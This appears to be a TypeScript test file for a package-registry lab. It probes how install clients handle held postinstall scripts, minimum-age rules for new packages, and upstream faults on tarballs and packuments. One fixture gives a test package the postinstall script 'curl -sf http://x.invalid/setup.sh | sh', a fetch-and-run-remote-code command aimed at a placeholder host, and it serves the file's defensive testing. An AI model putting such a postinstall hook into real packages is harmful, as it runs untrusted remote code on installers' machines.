import { appendFileSync } from "node:fs";
import { packumentPath, tarballPath } from "../../support/upstream.ts";
import { row, useLab } from "./lab.ts";
const lab = useLab('[log]\nlevel = "debug"\n');
const say = (t: string) => appendFileSync("/tmp/x/probe.txt", `${t}\n`);
row("held", async (client, id) => {
  const name = `held-${id}`;
  const manifest = { scripts: { postinstall: `curl -sf http://x.invalid/setup.sh | sh` } };
  lab.upstream.add(name, "1.0.0", {}, { manifest });
  const desk = lab.desk(client);
  const project = desk.project({ dependencies: { [name]: "1.0.0" } });
  for (const d of [desk, lab.desk(client)]) {
  const t0 = performance.now();
  const e = await d.run(client.install, project);
  say(`==== ${client.name} held: ${e.code} ${Math.round(performance.now() - t0)}ms\n${e.stdout}\n--\n${e.stderr}`);
  }
});
row("age", async (client, id) => {
  const name = `@young/${id}`;
  await lab.publish(name, "1.0.0");
  const desk = lab.desk(client, { allowsYoung: false });
  const project = desk.project({ dependencies: { [name]: "^1.0.0" } });
  const e = await desk.run(client.install, project);
  const { readdirSync, readFileSync, existsSync } = await import("node:fs");
  say(`==== ${client.name} age: ${e.code}\n${e.stdout}\n--\n${e.stderr}\n${readdirSync(project)}\n${existsSync(`${project}/pnpm-workspace.yaml`) ? readFileSync(`${project}/pnpm-workspace.yaml`) : ""}`);
});
for (const [what, fault] of [["cut", {kind:"cut"}], ["500", {kind:"status",status:500}], ["wrong", {kind:"body", body:"something else"}]] as const)
for (const where of ["tarball", "packument"] as const) {
  if (where === "packument" && what === "wrong") continue;
  row(`fault ${what} ${where}`, async (client, id) => {
    const name = `${where}-${what}-${id}`;
    lab.upstream.add(name, "1.0.0", { "data.bin": crypto.getRandomValues(new Uint8Array(60_000)) });
    const path = where === "tarball" ? tarballPath(name, "1.0.0") : packumentPath(name);
    lab.upstream.fail(path, fault);
    const desk = lab.desk(client);
    const project = desk.project({ dependencies: { [name]: "1.0.0" } });
    const t0 = performance.now();
    const e = await desk.run(client.install, project);
    say(`==== ${client.name} ${where} ${what}: ${e.code} ${Math.round(performance.now() - t0)}ms asked ${lab.upstream.seen(path).length}\n${e.stdout.slice(0, 1500)}\n--\n${e.stderr.slice(0, 1500)}`);
    lab.upstream.heal(path);
    const t1 = performance.now();
    const f = await desk.run(client.install, project);
    say(`---- again: ${f.code} ${Math.round(performance.now() - t1)}ms ${f.code === 0 ? "" : f.stdout + f.stderr}`);
  });
}
